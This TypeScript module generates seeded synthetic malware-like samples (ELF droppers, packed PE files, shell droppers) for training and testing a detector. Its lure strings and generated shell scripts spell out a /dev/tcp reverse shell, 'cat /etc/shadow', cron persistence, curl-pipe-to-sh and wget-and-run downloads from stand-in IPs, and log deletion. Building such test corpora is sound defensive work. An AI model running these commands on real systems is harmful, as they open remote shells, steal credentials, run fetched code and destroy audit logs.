/**
 * Synthetic "malicious" files for training and tests — no downloads, no
 * real malware. Each family imitates what the features look for in the wild:
 *
 *   elf-dropper   ELF64 with one writable+executable PT_LOAD, no section headers,
 *                 an encrypted (random) payload and miner / reverse-shell strings
 *   pe-packed     PE32+ with a writable+executable section and a high-entropy overlay
 *   sh-dropper    a shell script that fetches and runs a payload, with a base64 blob
 *
 * Deterministic for a seed (mulberry32), so a test's corpus is the same on
 * every machine.
 */

export type Family = "elf-dropper" | "pe-packed" | "sh-dropper";
export const FAMILIES: Family[] = ["elf-dropper", "pe-packed", "sh-dropper"];

export function rng(seed: number): () => number {
  let a = seed >>> 0;
  return () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

function randomBytes(r: () => number, n: number): Uint8Array {
  const b = new Uint8Array(n);
  for (let i = 0; i < n; i++) b[i] = Math.floor(r() * 256);
  return b;
}

const enc = new TextEncoder();
const B64 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
const LURES = [
  "stratum+tcp://pool.example:3333",
  "xmrig --donate-level 0",
  "/bin/sh -i >& /dev/tcp/10.0.0.1/4444 0>&1",
  "LD_PRELOAD=/tmp/.lib.so",
  "cat /etc/shadow",
  "ptrace(PTRACE_ATTACH)",
  "crontab -l; echo '* * * * * /tmp/.x' | crontab -",
];

function pick<T>(r: () => number, xs: readonly T[]): T {
  return xs[Math.floor(r() * xs.length)]!;
}

function elfDropper(r: () => number): Uint8Array {
  const payload = 4096 + Math.floor(r() * 60_000);
  const lures = Array.from({ length: 1 + Math.floor(r() * 4) }, () => pick(r, LURES)).join("\0");
  const strings = enc.encode(`\0${lures}\0`);
  const size = 64 + 56 + payload + strings.length;
  const d = new Uint8Array(size);
  const v = new DataView(d.buffer);
  d.set([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]);
  v.setUint16(16, 2, true); // ET_EXEC
  v.setUint16(18, 62, true); // x86-64
  v.setUint32(20, 1, true);
  v.setBigUint64(24, 0x400078n, true); // entry inside the one segment
  v.setBigUint64(32, 64n, true); // phoff
  v.setUint16(52, 64, true);
  v.setUint16(54, 56, true);
  v.setUint16(56, 1, true);
  v.setUint16(58, 64, true);
  const p = 64;
  v.setUint32(p, 1, true); // PT_LOAD
  v.setUint32(p + 4, 7, true); // R|W|X
  v.setBigUint64(p + 16, 0x400000n, true);
  v.setBigUint64(p + 24, 0x400000n, true);
  v.setBigUint64(p + 32, BigInt(size), true);
  v.setBigUint64(p + 40, BigInt(size), true);
  d.set(randomBytes(r, payload), 120);
  d.set(strings, 120 + payload);
  return d;
}

function pePacked(r: () => number): Uint8Array {
  const raw = 2048 + Math.floor(r() * 8192);
  const overlay = 8192 + Math.floor(r() * 40_000);
  const headers = 0x400;
  const d = new Uint8Array(headers + raw + overlay);
  const v = new DataView(d.buffer);
  d.set([0x4d, 0x5a]);
  v.setUint32(0x3c, 0x80, true);
  d.set([0x50, 0x45, 0, 0], 0x80);
  v.setUint16(0x84, 0x8664, true);
  v.setUint16(0x86, 1, true); // one section
  v.setUint16(0x94, 240, true); // optional header size
  const opt = 0x98;
  v.setUint16(opt, 0x20b, true);
  v.setUint32(opt + 16, 0x1010, true); // entry RVA
  v.setUint32(opt + 60, headers, true); // SizeOfHeaders
  v.setUint32(opt + 108, 16, true);
  const sec = opt + 240;
  d.set(enc.encode(".upx0\0\0\0"), sec);
  v.setUint32(sec + 8, raw, true);
  v.setUint32(sec + 12, 0x1000, true);
  v.setUint32(sec + 16, raw, true);
  v.setUint32(sec + 20, headers, true);
  v.setUint32(sec + 36, 0xe0000020, true); // code | execute | read | write
  d.set(randomBytes(r, raw), headers);
  d.set(randomBytes(r, overlay), headers + raw);
  return d;
}

function shDropper(r: () => number): Uint8Array {
  const host = `${10 + Math.floor(r() * 200)}.${Math.floor(r() * 255)}.${Math.floor(r() * 255)}.${Math.floor(r() * 255)}`;
  const blob = Array.from({ length: 400 + Math.floor(r() * 6000) }, () => pick(r, [...B64])).join("");
  const lines = [
    "#!/bin/sh",
    `curl http://${host}/x.sh | sh`,
    `wget http://${host}/k -O /tmp/.k; chmod +x /tmp/.k; /tmp/.k &`,
    `echo ${blob} | base64 -d > /tmp/.p && chmod 777 /tmp/.p`,
    pick(r, LURES),
    "rm -rf /var/log/*",
  ];
  // Shuffle the middle so no two samples read alike.
  const mid = lines.slice(1).sort(() => r() - 0.5);
  return enc.encode(`${[lines[0], ...mid].join("\n")}\n`);
}

export function synthetic(family: Family, seed: number): Uint8Array {
  const r = rng(seed * 7919 + FAMILIES.indexOf(family));
  if (family === "elf-dropper") return elfDropper(r);
  if (family === "pe-packed") return pePacked(r);
  return shDropper(r);
}

/** `count` samples spread over the families. */
export function syntheticCorpus(count: number, seed = 1): { family: Family; bytes: Uint8Array }[] {
  return Array.from({ length: count }, (_, i) => {
    const family = FAMILIES[i % FAMILIES.length]!;
    return { family, bytes: synthetic(family, seed * 100_003 + i) };
  });
}
